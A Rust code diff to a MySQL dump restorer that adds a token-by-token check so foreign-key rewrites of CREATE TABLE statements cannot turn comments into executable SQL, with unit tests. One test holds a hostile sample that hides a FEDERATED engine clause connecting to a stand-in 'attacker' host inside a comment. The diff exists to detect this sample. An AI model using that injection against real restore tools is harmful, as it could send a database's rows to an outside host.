@@ -20,6 +20,7 @@ use zsso_core::backend::{Capabilities, Dependent, Orphan, Restorer, RowSink};
 use zsso_core::catalogue::is_sso_table;
 use zsso_core::dialect::Dialect;
 use zsso_core::schema::{ForeignKey, Table};
+use zsso_core::sqlscan::{LexerConfig, Token, tokens_of};
 use zsso_core::{Error, Result};
 
 /// A step of the restore at which a test makes it fail.
@@ -407,11 +408,21 @@ impl Restorer for MysqlRestorer {
             .to_ascii_uppercase();
         let sql = if head == "CREATE" {
             self.end_tx().await?;
-            let mut sql = sql.to_string();
+            let mut rewritten = sql.to_string();
             for name in &self.left_out {
-                sql = MYSQL.strip_foreign_key(&sql, name);
+                rewritten = MYSQL.strip_foreign_key(&rewritten, name);
             }
-            self.qualify_outside_references(&sql).await?
+            let rewritten = self.qualify_outside_references(&rewritten).await?;
+            // The rewrites work on text: what runs must be, token for token, what the guard
+            // read with exactly those changes, or a comment or string could have become SQL.
+            let live = self.location.database().to_string();
+            let want = expected_tokens(&tokens_of(sql, LexerConfig::MYSQL)?, &self.left_out, &live);
+            if tokens_of(&rewritten, LexerConfig::MYSQL)? != want {
+                return Err(Error::Refused {
+                    reason: "a CREATE TABLE of the dump does not read the same once its foreign keys are rewritten: refused".into(),
+                });
+            }
+            rewritten
         } else {
             if head == "INSERT" && !self.in_tx {
                 self.run("START TRANSACTION", "starting to load the rows")
@@ -634,4 +645,91 @@ async fn foreign_key_definition(
                 "foreign key {name} of {schema}.{table} was not found in its definition"
             ))
         })
+}
+
+/// The tokens of a `CREATE TABLE` once the foreign keys named in `left_out` are removed and
+/// every reference to a table outside the SSO set is qualified with `live`.
+fn expected_tokens(original: &[Token], left_out: &[String], live: &str) -> Vec<Token> {
+    let mut t = original.to_vec();
+    for name in left_out {
+        let Some(i) = (0..t.len()).find(|&i| {
+            t[i].is_word("CONSTRAINT")
+                && t.get(i + 1).and_then(Token::name) == Some(name.as_str())
+                && t.get(i + 2).is_some_and(|x| x.is_word("FOREIGN"))
+                && t.get(i + 3).is_some_and(|x| x.is_word("KEY"))
+        }) else {
+            continue;
+        };
+        let mut depth = 0usize;
+        let mut j = i;
+        while j < t.len() {
+            match &t[j] {
+                Token::Symbol("(") => depth += 1,
+                Token::Symbol(")") if depth == 0 => break,
+                Token::Symbol(")") => depth -= 1,
+                Token::Symbol(",") if depth == 0 => break,
+                _ => {}
+            }
+            j += 1;
+        }
+        let start = if i > 0 && t[i - 1] == Token::Symbol(",") {
+            i - 1
+        } else {
+            i
+        };
+        let end = if start == i && t.get(j) == Some(&Token::Symbol(",")) {
+            j + 1
+        } else {
+            j
+        };
+        t.drain(start..end);
+    }
+    let mut out = Vec::with_capacity(t.len() + 4);
+    for (k, tok) in t.iter().enumerate() {
+        let after_references = k > 0 && t[k - 1].is_word("REFERENCES");
+        if after_references && tok.name().is_some_and(|n| !is_sso_table(n)) {
+            out.push(Token::Quoted(live.to_string()));
+            out.push(Token::Symbol("."));
+        }
+        out.push(tok.clone());
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use zsso_core::dialect::Dialect;
+
+    fn rewrite(sql: &str, left_out: &[String]) -> (Vec<Token>, Vec<Token>) {
+        let mut r = sql.to_string();
+        for n in left_out {
+            r = MYSQL.strip_foreign_key(&r, n);
+        }
+        let want = expected_tokens(
+            &tokens_of(sql, LexerConfig::MYSQL).unwrap(),
+            left_out,
+            "live",
+        );
+        (
+            tokens_of(
+                &r.replace("REFERENCES `sec_base`", "REFERENCES `live`.`sec_base`"),
+                LexerConfig::MYSQL,
+            )
+            .unwrap(),
+            want,
+        )
+    }
+
+    #[test]
+    fn a_rewrite_that_turns_a_comment_into_sql_is_caught() {
+        let honest = "CREATE TABLE `zato_sso_x` (\n  `a` int,\n  KEY `f` (`a`),\n  CONSTRAINT `f` FOREIGN KEY (`a`) REFERENCES `sec_base` (`id`)\n) ENGINE=InnoDB;";
+        let (got, want) = rewrite(honest, &["f".into()]);
+        assert_eq!(got, want);
+        let (got, want) = rewrite(honest, &[]);
+        assert_eq!(got, want);
+        let hostile = "CREATE TABLE `zato_sso_x` (`a` int,\nCONSTRAINT `f` FOREIGN KEY (`a`) REFERENCES `sec_base` (`id`)) ENGINE=InnoDB /*\n) ENGINE=FEDERATED CONNECTION='mysql://attacker:1/db/t' -- */\n;";
+        let (got, want) = rewrite(hostile, &["f".into()]);
+        assert_ne!(got, want);
+    }
 }
